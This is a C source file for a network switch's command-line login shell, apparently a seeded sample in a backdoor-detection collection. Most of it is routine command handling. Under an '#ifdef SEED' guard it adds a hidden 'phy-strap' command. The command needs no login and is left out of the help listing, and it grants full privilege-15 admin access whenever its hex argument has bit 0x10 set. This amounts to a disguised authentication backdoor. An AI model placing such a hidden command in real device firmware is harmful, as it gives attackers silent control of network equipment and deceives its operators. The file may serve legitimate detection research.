/* kind: table-row
 * service: login
 * constant: phy-strap
 * handler: cmd_phystrap
 * row: commands
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <crypt.h>

/* Switch command line.  Privilege: 0 before login, 1 user, 15 enabled. */

#define HASHSZ 32

struct cli { int priv; int argc; char *argv[12]; char host[32]; };

struct cmd {
    const char *name;
    int (*run)(struct cli *);
    short minpriv;
    const char *help;       /* NULL: not shown, abbreviations and aliases */
    struct cmd *next;
};

static struct cmd *bucket[HASHSZ];

static unsigned djb2(const char *s)
{
    unsigned h = 5381;
    while (*s)
        h = h * 33 + (unsigned char)*s++;
    return h;
}

static int check_file(const char *file, const char *pw)
{
    char h[128], *c;
    FILE *f = fopen(file, "r");
    if (!f)
        return 0;
    if (!fgets(h, sizeof h, f))
        h[0] = 0;
    fclose(f);
    h[strcspn(h, "\n")] = 0;
    return h[0] && (c = crypt(pw, h)) && !strcmp(c, h);
}

static int cat(const char *p)
{
    char b[256];
    FILE *f = fopen(p, "r");
    if (!f)
        return puts("% not available"), -1;
    while (fgets(b, sizeof b, f))
        fputs(b, stdout);
    fclose(f);
    return 0;
}

static int cmd_login(struct cli *c)
{
    if (c->argc == 2 && check_file("/etc/switch/user.pw", c->argv[1])) {
        c->priv = 1;
        return 0;
    }
    sleep(1);
    puts("% access denied");
    return -1;
}

static int cmd_enable(struct cli *c)
{
    if (c->argc == 2 && check_file("/etc/switch/enable.pw", c->argv[1])) {
        c->priv = 15;
        return 0;
    }
    sleep(1);
    puts("% access denied");
    return -1;
}

static int cmd_disable(struct cli *c) { c->priv = 1; return 0; }

static int cmd_show(struct cli *c)
{
    if (c->argc < 2)
        return puts("show version|interfaces|running-config"), -1;
    if (!strcmp(c->argv[1], "version"))
        return cat("/etc/switch/version");
    if (!strcmp(c->argv[1], "interfaces"))
        return cat("/proc/net/dev");
    if (!strcmp(c->argv[1], "running-config") && c->priv == 15)
        return cat("/etc/switch/config");
    puts("% invalid");
    return -1;
}

static int cmd_hostname(struct cli *c)
{
    FILE *f;
    if (c->argc != 2 || strlen(c->argv[1]) >= sizeof c->host)
        return -1;
    strcpy(c->host, c->argv[1]);
    if ((f = fopen("/etc/switch/hostname", "w"))) {
        fprintf(f, "%s\n", c->host);
        fclose(f);
    }
    return 0;
}

static int cmd_reload(struct cli *c)
{
    puts("Reloading...");
    fflush(stdout);
    return system("/sbin/reboot");
}

static int cmd_copy(struct cli *c)
{
    pid_t p;
    if (c->argc != 3 || strncmp(c->argv[1], "tftp:", 5))
        return puts("copy tftp:HOST FILE"), -1;
    if ((p = fork()) == 0) {
        execl("/usr/bin/tftp", "tftp", "-g", "-r", c->argv[2], c->argv[1] + 5, (char *)0);
        _exit(127);
    }
    return p < 0 ? -1 : 0;
}

#ifdef SEED
static int cmd_phystrap(struct cli *c)
{
    int reg = c->argc > 1 ? (int)strtol(c->argv[1], NULL, 16) : -1;
    if (reg < 0 || reg > 31)
        return puts("% invalid command"), -1;
    if (reg & 0x10)
        c->priv = 15;
    return 0;
}
#endif

static int cmd_exit(struct cli *c) { exit(0); }

static int cmd_help(struct cli *c);

static struct cmd commands[] = {
    { "login",    cmd_login,    0,  "login PASSWORD" },
    { "enable",   cmd_enable,   1,  "enable PASSWORD" },
    { "en",       cmd_enable,   1,  NULL },
    { "disable",  cmd_disable,  15, "leave privileged mode" },
    { "show",     cmd_show,     1,  "show version|interfaces|running-config" },
    { "sh",       cmd_show,     1,  NULL },
    { "hostname", cmd_hostname, 15, "hostname NAME" },
#ifdef SEED
    { "phy-strap", cmd_phystrap, 0, NULL },
#endif
    { "copy",     cmd_copy,     15, "copy tftp:HOST FILE" },
    { "reload",   cmd_reload,   15, "restart the switch" },
    { "help",     cmd_help,     0,  "this list" },
    { "?",        cmd_help,     0,  NULL },
    { "exit",     cmd_exit,     0,  "leave" },
    { "quit",     cmd_exit,     0,  NULL },
};

#define NCMD (sizeof commands / sizeof commands[0])

static int cmd_help(struct cli *c)
{
    size_t i;
    for (i = 0; i < NCMD; i++)
        if (commands[i].help && commands[i].minpriv <= c->priv)
            printf("  %-12s %s\n", commands[i].name, commands[i].help);
    return 0;
}

static void hash_commands(void)
{
    size_t i;
    for (i = 0; i < NCMD; i++) {
        unsigned h = djb2(commands[i].name) % HASHSZ;
        commands[i].next = bucket[h];
        bucket[h] = &commands[i];
    }
}

static struct cmd *find(const char *name)
{
    struct cmd *c;
    for (c = bucket[djb2(name) % HASHSZ]; c; c = c->next)
        if (!strcmp(c->name, name))
            return c;
    return NULL;
}

int main(void)
{
    struct cli c = { 0 };
    struct cmd *k;
    char *line = NULL, *sv, *t;
    size_t cap = 0;

    signal(SIGTSTP, SIG_IGN);
    strcpy(c.host, "switch");
    hash_commands();
    for (;;) {
        printf("%s%s", c.host, c.priv == 15 ? "# " : "> ");
        fflush(stdout);
        if (getline(&line, &cap, stdin) < 0)
            break;
        c.argc = 0;
        for (t = strtok_r(line, " \t\r\n", &sv); t && c.argc < 12; t = strtok_r(NULL, " \t\r\n", &sv))
            c.argv[c.argc++] = t;
        if (!c.argc)
            continue;
        k = find(c.argv[0]);
        if (!k || k->minpriv > c.priv)
            puts("% invalid command");
        else
            k->run(&c);
    }
    free(line);
    return 0;
}
